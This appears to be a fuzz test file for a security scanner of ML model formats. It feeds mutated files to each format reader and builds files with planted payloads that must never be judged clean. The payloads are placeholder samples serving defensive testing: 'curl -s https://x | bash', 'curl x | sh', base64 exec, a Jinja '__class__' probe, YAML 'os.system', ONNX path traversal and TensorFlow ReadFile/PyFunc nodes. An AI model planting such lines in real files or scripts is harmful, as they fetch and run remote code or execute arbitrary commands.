/**
 * Damaged files for each reader, 50,000 or `HOLDFAST_FUZZ_INPUTS`: it may say what it likes of them, but it ends, soon, and throws nothing that it
 * did not mean to. And files with a payload, built at random around it: none is called clean.
 */

import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { tfliteModel } from "../../../../test/models/flatbuffer.ts";
import { ggufOf, ggufWriter, honestGguf } from "../../../../test/models/gguf.ts";
import { cpuTime, freed, mutate, randomOf } from "../../../../test/models/mutate.ts";
import { honestOnnx, onnxExternal, onnxGraph, onnxModel, onnxNode, onnxTensor } from "../../../../test/models/onnx.ts";
import {
  rCall,
  rEnvironment,
  rFile,
  rNull,
  rPairs,
  rPromise,
  rReals,
  rStrings,
  rSymbol,
  rVector,
} from "../../../../test/models/r.ts";
import { honestSafetensors, safetensorsOf } from "../../../../test/models/safetensors.ts";
import { savedModel, tfGraph, tfNode } from "../../../../test/models/tensorflow.ts";
import { vectorsOf } from "../../../../test/models/vectors.ts";
import { message, utf8, zeros } from "../../../../test/models/writer.ts";
import { isHoldfastError, type ArtifactVerdict } from "../../../core/index.ts";
import { verdictOf, type ScanFinding } from "../finding.ts";
import type { Format } from "../format.ts";
import { TooLong, Truncated } from "../reader.ts";
import { bytesSource } from "../source.ts";
import { configText } from "./config-text.ts";
import { coreml } from "./coreml.ts";
import { executable } from "./executable.ts";
import { gguf } from "./gguf.ts";
import { hdf5 } from "./hdf5.ts";
import { jinja } from "./jinja.ts";
import { json } from "./json.ts";
import { onnx } from "./onnx.ts";
import { python } from "./python.ts";
import { r } from "./r.ts";
import { safetensors } from "./safetensors.ts";
import { tensorflow } from "./tensorflow.ts";
import { tflite } from "./tflite.ts";
import { xml } from "./xml.ts";
import { yaml } from "./yaml.ts";

const DAMAGED = Number(process.env["HOLDFAST_FUZZ_INPUTS"] ?? 50_000);
const PLANTED = 10_000;

/** Milliseconds of one file of some kilobytes: a thousand times what it takes, so that a busy machine is no failure. */
const MOST_MS = 10_000;

type Random = (limit: number) => number;

interface Fuzzed {
  readonly format: Format;
  readonly name: string;
  readonly seeds: readonly Uint8Array[];
  /** A file with a payload. */
  readonly plant?: (random: Random) => Uint8Array;
}

const pick = <Value>(random: Random, values: readonly Value[]): Value => values[random(values.length)] as Value;
const some = <Value>(random: Random, most: number, make: () => Value): Value[] =>
  Array.from({ length: random(most + 1) }, make);
const word = (random: Random): string => some(random, 8, () => pick(random, "abcxyz_.<>{}'\"\\ -".split(""))).join("");
/** `payload` among as many as `most` others. */
const among = <Value>(random: Random, most: number, make: () => Value, payload: Value): readonly Value[] => [
  ...some(random, most, make),
  payload,
  ...some(random, most, make),
];

function plantGguf(random: Random): Uint8Array {
  const version = pick(random, [1, 2, 3] as const);
  const bigEndian = random(2) === 0;
  const write = ggufWriter(version, bigEndian);
  let index = 0;
  const other = () => {
    const key = `k${index++}`;
    return pick(random, [
      write.u32(key, random(9)),
      write.string(key, word(random)),
      write.strings(key, [word(random)]),
    ]);
  };
  const payload = write.string("tokenizer.chat_template", `${"x".repeat(random(99))}{{ ''.__class__ }}`);
  return ggufOf({ version, bigEndian, values: among(random, 5, other, payload) });
}

function plantOnnx(random: Random): Uint8Array {
  const tensor = onnxTensor([1], ...onnxExternal([["location", pick(random, ["../x", "/x", "a/../../x", "C:\\x"])]]));
  const relu = () => onnxNode("Relu");
  let graph = onnxGraph(
    some(random, 4, relu),
    among(random, 3, () => onnxTensor([1], [9, zeros(4)]), tensor),
  );
  for (let depth = random(12); depth > 0; depth--) {
    graph = onnxGraph(among(random, 3, relu, onnxNode("If", "", message([1, "body"], [pick(random, [6, 11]), graph]))));
  }
  return onnxModel(graph, ...some(random, 3, () => [14, message([1, "a"], [2, word(random)])] as const));
}

function plantR(random: Random): Uint8Array {
  const other = () => pick(random, [rNull, rReals(1, 2), rStrings(word(random)), rSymbol(word(random))]);
  const code = rCall(pick(random, ["c", "system", "eval"]), ...some(random, 3, other));
  let item = rPromise(code);
  for (let depth = random(12); depth > 0; depth--) {
    const items = among(random, 3, other, item);
    item = pick(random, [
      () => rVector(items),
      () => rVector(some(random, 3, other), rPairs(["names", item])),
      () => rPairs(...items.map((value) => [word(random), value] as const)),
      () => rEnvironment(rPairs(["a", rVector(items)])),
    ])();
  }
  return rFile(item, pick(random, [2, 3] as const));
}

function plantGraph(random: Random): Uint8Array {
  const other = () => tfNode(pick(random, ["MatMul", "Const", "Relu", "SaveV2"]));
  const nodes = among(random, 6, other, tfNode(pick(random, ["ReadFile", "WriteFile", "PyFunc", "EagerPyFunc"])));
  const clean = some(random, 6, other);
  const graph = random(2) === 0 ? tfGraph(nodes, clean) : tfGraph([other(), ...clean], nodes);
  return savedModel(graph, ...some(random, 2, () => [5, message([1, word(random)])] as const));
}

function plantKeras(random: Random): Uint8Array {
  let value: unknown = { class_name: "Lambda", config: { function: ["4wE=", null, null], name: word(random) } };
  for (let depth = random(20); depth > 0; depth--) {
    const other = () => ({ class_name: "Dense", config: { units: random(9), name: word(random) } });
    const layers = among(random, 3, other, value as ReturnType<typeof other>);
    value = { class_name: pick(random, ["Sequential", "Functional"]), config: { name: word(random), layers } };
  }
  return utf8(JSON.stringify(value, null, random(3)));
}

function plantSafetensors(random: Random): Uint8Array {
  const entries: Record<string, unknown> = {};
  const count = 1 + random(5);
  const hole = random(count + 1);
  let at = 0;
  for (let index = 0; index < count; index++) {
    if (index === hole) at += 1 + random(40);
    const size = 1 + random(20);
    entries[`t${index}`] = { dtype: "U8", shape: [size], data_offsets: [at, at + size] };
    at += size;
  }
  return safetensorsOf(JSON.stringify(entries), zeros(hole === count ? at + 1 + random(40) : at));
}

function plantCoreml(random: Random): Uint8Array {
  const layer = (kind: number) => message([1, word(random)], [kind, message([10, "Mine"])]);
  const layers = among(random, 4, () => layer(pick(random, [140, 100, 120])), layer(500));
  const network = message(...layers.map((body) => [1, body] as const));
  let model = message([1, 5], [2, message([1, "in"])], [pick(random, [303, 403, 500]), network]);
  for (let depth = random(10); depth > 0; depth--) model = message([1, 5], [2, message()], [202, message([1, model])]);
  return model;
}

const lines = (random: Random, payload: string, benign: readonly string[]) =>
  utf8(among(random, 8, () => pick(random, benign), payload).join("\n"));

const TARGETS: readonly Fuzzed[] = [
  {
    format: safetensors,
    name: "a.safetensors",
    seeds: [honestSafetensors(), safetensorsOf('{"a":{"dtype":"F4","shape":[2],"data_offsets":[0,1]}}', zeros(1))],
    plant: plantSafetensors,
  },
  { format: gguf, name: "a.gguf", seeds: [honestGguf(), honestGguf(1), honestGguf(3, true)], plant: plantGguf },
  {
    format: jinja,
    name: "a.jinja",
    seeds: [
      "{% for m in x %}{{ m['a'] + '\\x5f' ~ {'a': [1, 2]} }}{% endfor %}{# c #}",
      "{% raw %}{{ a }}{% endraw %}",
    ].map(utf8),
    plant: (random) =>
      lines(random, "{{ ''.__class__ }}", ["{{ a['b'] }}", "text's", "{# ' #}", "{% if a %}{% endif %}", "}} %} #}"]),
  },
  { format: onnx, name: "a.onnx", seeds: [honestOnnx(), plantOnnx(randomOf(1))], plant: plantOnnx },
  {
    format: tensorflow,
    name: "saved_model.pb",
    seeds: [savedModel(tfGraph([tfNode("MatMul")], [tfNode("PrintV2", "stderr")])), plantGraph(randomOf(1))],
    plant: plantGraph,
  },
  { format: hdf5, name: "a.h5", seeds: vectorsOf("hdf5", /\.h5$/) },
  {
    format: tflite,
    name: "a.tflite",
    seeds: [tfliteModel(), tfliteModel({ custom: "FlexMatMul", offset: 9, size: 9 })],
    plant: (random) =>
      tfliteModel({
        custom: pick(random, ["FlexReadFile", "FlexPyFunc", "Mine"]),
        inputs: some(random, 5, () => random(2)),
      }),
  },
  {
    format: coreml,
    name: "a.mlmodel",
    seeds: [plantCoreml(randomOf(1)), plantCoreml(randomOf(2))],
    plant: plantCoreml,
  },
  {
    format: json,
    name: "config.json",
    seeds: [
      plantKeras(randomOf(3)),
      utf8('{"auto_map":{"a":"b.C"},"chat_template":"{{ a }}","nbformat":4,"cells":[]}'),
    ],
    plant: plantKeras,
  },
  {
    format: xml,
    name: "a.xml",
    seeds: [
      utf8(
        '<?xml version="1.0"?><net name="a"><layer id="0" version="opset1"><data offset="0" size="4"/></layer></net>',
      ),
    ],
    plant: (random) =>
      lines(random, "<layer version='mine' type='x'/>", ["<a b='>'/>", "<!-- < -->", "text", '<b c="\'"></b>']),
  },
  {
    format: yaml,
    name: "a.yaml",
    seeds: [utf8("a: &x {b: [1, 'c']}\nd: *x\n---\n_target_: torch.nn.Linear\n? e\n: !!str f\n")],
    plant: (random) => lines(random, "- _target_: os.system", ["- a: b", "- {c: [d, e]}", "- 'f'", "- &g h"]),
  },
  {
    format: python,
    name: "a.py",
    seeds: [
      utf8("import os\ndef f(x):\n  return eval(x)\nexec(zlib.decompress(base64.b64decode('x')))\n# curl x | sh\n"),
    ],
    plant: (random) =>
      lines(random, "exec(base64.b64decode('x'))", ["import os", "x = 'y'", "# (", "def f(): pass", "'''"]),
  },
  {
    format: executable,
    name: "run.sh",
    seeds: [utf8("#!/bin/sh\ncurl x | sh\n"), message([15, "ELF"]), utf8("MZqFpD='")],
    plant: (random) => lines(random, "curl -s https://x | bash", ["echo a", "# b", "if true; then", "fi", "'"]),
  },
  { format: r, name: "a.rds", seeds: vectorsOf("r", /^(?!.*(?:gzip|xz)).*\.rd[as]$/), plant: plantR },
  {
    format: configText,
    name: "requirements.txt",
    seeds: [utf8("torch==2\n--index-url http://x\n# c\ngit+https://y\n")],
    plant: (random) => lines(random, "--trusted-host x", ["a==1", "# b", "c>=2", ""]),
  },
];

/** What a reader may throw: what a scan turns into «could not be read». */
function isMeant(error: unknown): boolean {
  if (error instanceof RangeError) return !/call stack|Invalid (?:array|string) length/i.test(error.message);
  return error instanceof Truncated || error instanceof TooLong || isHoldfastError(error);
}

function run({ format, name }: Fuzzed, bytes: Uint8Array): ArtifactVerdict {
  const source = bytesSource(bytes);
  const findings: ScanFinding[] = [];
  let steps = 5_000_000;
  let verdict: ArtifactVerdict | undefined;
  if (!format.sniff(source, name)) return "not-a-model";
  try {
    format.scan(source, {
      name,
      report: (rule) => findings.push({ rule, members: [] }),
      member: () => {},
      spend: (_what, amount) => (steps -= amount) >= 0,
    });
  } catch (error) {
    if (!isMeant(error)) throw new Error(`${format.id}: ${Buffer.from(bytes).toString("base64")}`, { cause: error });
    verdict = "inconclusive";
  }
  return steps < 0 ? "inconclusive" : (verdict ?? verdictOf(findings, true));
}

describe("readers of formats, fuzzed", () => {
  for (const [index, target] of TARGETS.entries()) {
    it(`${target.format.id}: ${DAMAGED} damaged files`, async () => {
      const random = randomOf(index + 1);
      let worst = 0;
      for (let round = 0; round < DAMAGED; round++) {
        const bytes = mutate(pick(random, target.seeds), pick(random, target.seeds), random);
        const started = cpuTime();
        run(target, bytes);
        worst = Math.max(worst, cpuTime() - started);
        await freed(round);
      }
      assert.ok(worst < MOST_MS, `${worst} ms for one file`);
    });

    const { plant } = target;
    if (plant === undefined) continue;
    it(`${target.format.id}: ${PLANTED} files with a payload`, async () => {
      const random = randomOf(index + 100);
      for (let round = 0; round < PLANTED; round++) {
        const bytes = plant(random);
        const verdict = run(target, bytes);
        const called = `${verdict}: ${Buffer.from(bytes).toString("base64")}`;
        assert.ok(verdict === "malicious" || verdict === "suspicious" || verdict === "inconclusive", called);
        await freed(round);
      }
    });
  }
});
